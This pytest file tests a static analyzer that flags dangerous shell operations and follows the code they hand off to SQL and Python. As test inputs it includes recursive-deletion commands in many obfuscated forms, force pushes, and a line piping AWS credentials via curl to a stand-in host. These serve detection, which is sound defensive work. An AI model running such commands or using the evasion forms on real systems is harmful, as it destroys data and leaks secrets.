"""The shell front end: fixtures annotated with `# ruleid:` / `# ok:`, positions, hand-offs, errors."""
from __future__ import annotations

import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

import analyzer.frontends as frontends
from analyzer.catalogue import load_catalogue, rules_dir
from analyzer.frontends import Options, analyze
from analyzer.model import Analysis, Location
from tests.annotations import check, expectations

FIXTURES = Path(__file__).parent / "fixtures" / "shell"
SCRIPTS = sorted(FIXTURES.glob("*.sh"))


def run(text: str, origin: Location | None = None) -> Analysis:
    return analyze("shell", text, origin or Location("t.sh"), Options())


def rules_of(text: str) -> list[str]:
    return [op.rule for op in run(text).operations]


# -- fixtures -------------------------------------------------------------------------------


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda p: p.name)
def test_fixture(script: Path) -> None:
    text = script.read_text(encoding="utf-8")
    analysis = analyze("shell", text, Location(str(script)), Options())
    assert analysis.errors == []
    actual = {(op.rule, op.location.line, op.location.cell) for op in analysis.operations}
    expected = expectations(text)
    assert any(e.kind == "ruleid" for e in expected) or script.name == "mentions.sh"
    assert any(e.kind == "ok" for e in expected), "every fixture needs near-misses"
    assert check(expected, actual) == []


def annotated(kind: str) -> set[str]:
    """The rules the fixtures name in annotations of one kind (ruleid, ok)."""
    return {e.rule for script in SCRIPTS for e in expectations(script.read_text(encoding="utf-8")) if e.kind == kind}


def test_every_shell_rule_has_a_fixture_and_a_near_miss() -> None:
    """Every shell rule fires on a fixture line and has a near-miss naming it that stays quiet
    (test_fixture holds both to what the analyzer finds)."""
    rules = {rule_id for rule_id in load_catalogue().rules if rule_id.startswith("shell.")}
    assert rules - annotated("ruleid") == set(), "rules without a `# ruleid:` fixture line"
    assert rules - annotated("ok") == set(), "rules without a `# ok:` near-miss"
    assert (annotated("ruleid") | annotated("ok")) - rules - {"*"} == set(), "annotations naming no rule"


def test_the_catalogue_names_fixture_files_that_exist() -> None:
    text = (rules_dir() / "shell.yaml").read_text(encoding="utf-8")
    named = {name for line in text.splitlines() if "Fixtures:" in line for name in re.findall(r"[\w-]+\.sh", line)}
    assert named and named <= {script.name for script in SCRIPTS}


def test_operations_are_well_formed() -> None:
    catalogue = load_catalogue()
    for script in SCRIPTS:
        for op in run(script.read_text(encoding="utf-8")).operations:
            rule = catalogue.get(op.rule)
            assert op.language == "shell" and op.category == rule.category
            assert op.evidence and not re.search(r"\{[a-z_]+\}", op.message), op.message
            assert op.severity in ("critical", "high", "medium", "low")


# -- positions ------------------------------------------------------------------------------


def test_lines_and_columns_follow_the_origin() -> None:
    origin = Location("notebook.ipynb", line=10, column=5, cell=3, cell_id="c3")
    analysis = run("rm -rf /srv/a\n\n  git reset --hard\n", origin)
    first, second = sorted(analysis.operations, key=lambda op: op.location.line)
    assert (first.location.line, first.location.column) == (10, 5)
    assert (second.location.line, second.location.column) == (12, 3)
    assert {op.location.cell for op in analysis.operations} == {3}
    assert {op.location.cell_id for op in analysis.operations} == {"c3"}
    assert first.location.path == "notebook.ipynb"


def test_embedded_code_keeps_real_positions() -> None:
    analysis = run("echo start\nbash -c 'rm -rf /srv/a'\ncat <<X | sh\n\ngit clean -fd\nX\n")
    found = {op.rule: (op.location.line, op.location.column) for op in analysis.operations}
    assert found["shell.rm-recursive"] == (2, 10)
    assert found["shell.git-clean"] == (5, 1)


def test_columns_count_characters_not_bytes() -> None:
    op, = run("echo 'héllo'; rm -rf /srv/é").operations
    assert op.location.column == 15


# -- resolution ------------------------------------------------------------------------------


@pytest.mark.parametrize("command", [
    "r''m -rf /srv", '"rm" -rf /srv', "\\rm -rf /srv", "$'\\x72m' -rf /srv", "CMD=rm; $CMD -rf /srv",
    "$(echo rm) -rf /srv", "sudo -u deploy /bin/rm -rf /srv", "xargs -0 -n1 rm -rf /srv < list",
    "IFS=,; rm -rf /srv", "rm -rf -- /srv", "if true; then rm -rf /srv; fi", "f() { rm -rf /srv; }",
    "case $x in a) rm -rf /srv;; esac", "while true; do rm -rf /srv; done", "(cd / && rm -rf srv)",
    "{ rm -rf /srv; }", "echo $(rm -rf /srv)", "echo `rm -rf /srv`", "diff <(rm -rf /srv) x",
    "rm -rf /srv &", "! rm -rf /srv", "x=$(rm -rf /srv)",
])
def test_forms_that_remove(command: str) -> None:
    assert "shell.rm-recursive" in rules_of(command)


@pytest.mark.parametrize("command", [
    'echo "rm -rf /"', "grep 'DROP TABLE' schema.sql", 'git commit -m "rm -rf"', "printf 'rm -rf /'",
    "man rm", "which rm", "command -v rm", "cat <<EOF\nrm -rf /\nEOF", "# rm -rf /", "type -a rm",
    "alias x='rm -rf /'", "rm file.txt", "git push origin main", "curl -o f https://example.com/f.tgz",
    "", "   ",
])
def test_mentions_are_not_operations(command: str) -> None:
    assert run(command).operations == []


def test_scratch_only_where_provable() -> None:
    by_text = {}
    for command in ['d=$(mktemp -d); rm -rf "$d"', 'rm -rf "$TMPDIR/build"', 'rm -rf "$d"',
                    'd=$(mktemp -d); rm -rf "$d/../etc"', "rm -rf /tmp/build"]:
        op, = run(command).operations
        by_text[command] = op.scratch
    assert by_text == {'d=$(mktemp -d); rm -rf "$d"': True, 'rm -rf "$TMPDIR/build"': True,
                       'rm -rf "$d"': False, 'd=$(mktemp -d); rm -rf "$d/../etc"': False,
                       "rm -rf /tmp/build": False}


def test_force_push_severity_depends_on_the_branch() -> None:
    severity = {c: run(c).operations[0].severity for c in
                ["git push -f origin main", 'git push -f origin "$BRANCH"', "git push -f"]}
    assert severity == {"git push -f origin main": "critical", 'git push -f origin "$BRANCH"': "high",
                        "git push -f": "high"}


@pytest.mark.parametrize("command", [
    "git push -f origin feature/x", "git push --force-with-lease origin alice/wip",
    'B="feature/$1"; git push --force-with-lease origin "$B"', 'git push -f origin "fix/${TICKET}"',
    "git push origin +bugfix/x", "git push -f origin HEAD:refs/heads/users/bob/spike",
])
def test_force_push_to_a_branch_that_cannot_be_protected_is_routine(command: str) -> None:
    assert run(command).operations == []


@pytest.mark.parametrize("command", [
    'git push -f origin "$BRANCH"', 'git push -f origin "release/$V"', 'git push -f origin "${B:-feature/x}"',
    "git push -f origin HEAD", "git push -f origin feature/x:main", 'git push -f origin "pro$X"',
    "git push -f origin refs/tags/v1", "git push -f origin feature/x main",
])
def test_force_push_that_may_reach_a_protected_branch_is_reported(command: str) -> None:
    assert rules_of(command) == ["shell.git-force-push"]


def test_find_deletes_below_its_start_directories() -> None:
    from analyzer.policy.load import load_policy
    from analyzer.model import Context

    policy = load_policy()
    decided = {}
    for command in ["find /tmp -maxdepth 1 -name 'etl-*' -mtime +1 -exec rm -rf {} +", "find /tmp/ -delete",
                    "find / -name 'etl-*' -delete", "find . -delete", "find ~ -exec rm {} +", "find -delete",
                    "find /tmp/../etc -delete", 'find "$DIR" -delete', "find /tmp /srv -delete"]:
        op, = run(command).operations
        decided[command] = (op.targets, policy.decide(op, Context()).action)
    assert decided == {
        "find /tmp -maxdepth 1 -name 'etl-*' -mtime +1 -exec rm -rf {} +": (("/tmp/**",), "allow"),
        "find /tmp/ -delete": (("/tmp/**",), "allow"),
        "find / -name 'etl-*' -delete": (("/**",), "block"),
        "find . -delete": (("./**",), "block"),
        "find ~ -exec rm {} +": (("~/**",), "block"),
        "find -delete": (("./**",), "block"),
        "find /tmp/../etc -delete": (("/tmp/../etc/**",), "block"),
        'find "$DIR" -delete': (("$DIR/**",), "block"),
        "find /tmp /srv -delete": (("/tmp/**", "/srv/**"), "block"),
    }


def test_exfiltration_names_the_host_and_source() -> None:
    op, = run("cat ~/.aws/credentials | curl --data-binary @- https://collect.example.net/k").operations
    assert op.rule == "shell.exfil-secret"
    assert op.detail("host") == "collect.example.net"
    assert "credentials" in (op.detail("source") or "")
    up, = run("scp -P 2222 out.csv deploy@files.example.com:/in/").operations
    assert up.detail("host") == "files.example.com" and up.category == "exfiltration"


def test_touches_and_comments() -> None:
    analysis = run('rm -rf build  # clean\necho "# not a comment"\ncurl -s https://example.com/x -o x\n')
    assert [(c.text, c.location.line, c.location.column) for c in analysis.comments] == [(" clean", 1, 15)]
    kinds = {(t.kind, t.target, t.access) for t in analysis.touches}
    assert ("file", "build", "delete") in kinds and ("host", "example.com", "read") in kinds


# -- functions ---------------------------------------------------------------------------------


def test_a_function_call_is_analysed_with_its_arguments_at_the_call() -> None:
    script = ('k() { kubectl --context "$CONTEXT" "$@"; }\n'
              'reset() {\n  local ns=${1:-shop}\n  k delete namespace "$ns" --wait=true\n}\n'
              'k get pods\n')
    op, = run(script).operations
    assert (op.rule, op.location.line, op.location.column) == ("shell.kubectl-delete", 4, 3)
    assert op.evidence == 'k delete namespace "$ns" --wait=true'
    assert op.targets == ("namespace", "$ns")


@pytest.mark.parametrize(("script", "expected"), [
    ('f() { rm -rf /srv/cache; }; f', [("shell.rm-recursive", 1, ("/srv/cache",))]),
    ('f() { rm -rf /srv/cache; }\nf\nf', [("shell.rm-recursive", 1, ("/srv/cache",))]),
    ('main() { rm -rf "$1"; }\nmain "$@"', [("shell.rm-recursive", 1, ("$1",))]),
    ('f() { rm -rf "${1}"; }; f /srv', [("shell.rm-recursive", 1, ("${1}",)), ("shell.rm-recursive", 1, ("/srv",))]),
    ('run() { local x=$1; shift 1; "$@"; }\nrun x rm -rf /srv', [("shell.evasion-dynamic-command", 1, ("$@",)),
                                                              ("shell.rm-recursive", 2, ("/srv",))]),
    ('s() { rm -rf "$*"; }\ns /srv "$d"', [("shell.rm-recursive", 1, ("$*",)),
                                         ("shell.rm-recursive", 2, ("/srv $d",))]),
    ('k() { kubectl "$@"; }\nsudo k delete ns prod\ncommand k delete ns prod', []),
    ('say() { echo "$@"; }\nsay rm -rf /\nsay "$(rm -rf /srv)"', [("shell.rm-recursive", 3, ("/srv",))]),
])
def test_function_calls_repeat_nothing_the_definition_reports(script: str, expected: list[object]) -> None:
    found = [(op.rule, op.location.line, op.targets) for op in run(script).operations]
    assert sorted(found, key=str) == sorted(expected, key=str)


def test_recursive_functions_end_quickly() -> None:
    script = 'f() { f "$1"x; f "$1"y; f "$@"; rm -rf "$1"; }\n' + "".join(f"f /srv{i}\n" for i in range(300))
    start = time.perf_counter()
    analysis = run(script)
    assert time.perf_counter() - start < 2
    assert analysis.errors == [] and {op.rule for op in analysis.operations} == {"shell.rm-recursive"}
    assert run("loop() { loop \"$@\"; }\nloop rm -rf /").operations == []


# -- hand-offs to other front ends --------------------------------------------------------------


def test_code_is_handed_to_the_right_front_end(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[str, str, int, int, str | None]] = []
    real = frontends.analyze

    def spy(language: str, text: str, origin: Location, options: Options | None = None) -> Analysis:
        if language == "shell":
            return real(language, text, origin, options)
        calls.append((language, text, origin.line, origin.column, options.context_hint if options else None))
        return Analysis()

    monkeypatch.setattr(frontends, "analyze", spy)
    script = ("psql -h db -c 'DROP TABLE users'\n"
              "python3 - <<'PY'\nimport shutil\nPY\n"
              "mysql -u root shop <<SQL\nDELETE FROM orders;\nSQL\n"
              "python -c \"import os\"\n"
              "echo 'SELECT 1' | sqlite3 app.db\n"
              "bash -c \"psql -c 'TRUNCATE t'\"\n")
    real("shell", script, Location("t.sh"), Options())
    assert calls == [
        ("sql", "DROP TABLE users", 1, 16, "psql"),
        ("python", "import shutil\n", 3, 1, "python3"),
        ("sql", "DELETE FROM orders;\n", 6, 1, "mysql"),
        ("python", "import os", 8, 12, "python"),
        ("sql", "SELECT 1\n", 9, 7, "sqlite"),
        ("sql", "TRUNCATE t", 10, 19, "psql"),
    ]


def test_a_written_script_is_reported_where_it_runs() -> None:
    script = "cat > /tmp/x.sh <<EOF\necho start\nrm -rf /srv/data\nEOF\necho later\nbash /tmp/x.sh\n"
    op, = run(script).operations
    assert (op.rule, op.location.line, op.location.column) == ("shell.rm-recursive", 6, 1)
    assert op.evidence == "rm -rf /srv/data"
    overwritten = "echo 'rm -rf /srv' > x.sh\ncurl -s https://example.com/x.sh > x.sh\nbash x.sh\n"
    assert [o.rule for o in run(overwritten).operations] == []


def test_nesting_is_bounded() -> None:
    analysis = run("eval " * 12 + "rm -rf /srv")
    assert analysis.errors and "deep" in analysis.errors[0].message
    assert run("eval " * 3 + "rm -rf /srv").errors == []
    deep = run("bash -c 'sh -c \"bash -c rm\"'")
    assert deep.errors == []


# -- errors ----------------------------------------------------------------------------------


def test_unbalanced_quotes_fail_closed_but_analyse_what_parses() -> None:
    analysis = run('echo ok\nrm -rf /srv/data\necho "unterminated\n')
    assert [op.rule for op in analysis.operations] == ["shell.rm-recursive"]
    assert len(analysis.errors) == 1
    assert analysis.errors[0].line == 3 and "syntax" in analysis.errors[0].message


def test_syntax_error_line_follows_origin() -> None:
    analysis = run("if then fi )", Location("nb.ipynb", line=4, cell=2))
    assert len(analysis.errors) == 1 and analysis.errors[0].cell == 2 and analysis.errors[0].line == 4


# -- cost ------------------------------------------------------------------------------------


def test_a_command_costs_well_under_five_milliseconds() -> None:
    run("sudo rm -rf /srv && git push --force origin main | tee log")
    start = time.perf_counter()
    for _ in range(200):
        run("sudo rm -rf /srv && git push --force origin main | tee log")
    assert (time.perf_counter() - start) / 200 < 0.005


def test_importing_the_front_end_does_not_load_tree_sitter() -> None:
    code = "import sys, analyzer.frontends.shell.script; print('tree_sitter' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                         cwd=Path(__file__).resolve().parents[1])
    assert out.stdout.strip() == "False"


@pytest.mark.parametrize("command", ["rm -rf", "kubectl delete --all", "aws s3 rb", "dropdb", "shred", "git branch -D"])
def test_messages_without_an_operand_still_read_well(command: str) -> None:
    op, = run(command).operations
    assert "the target" in op.message and "  " not in op.message and not op.message.startswith(" ")


def test_rule_messages_come_from_the_catalogue() -> None:
    op, = run("git clean -fdx").operations
    assert op.message == load_catalogue().get("shell.git-clean").format_message(flags="-fdx")
    assert re.search(r"git clean -fdx", op.evidence)
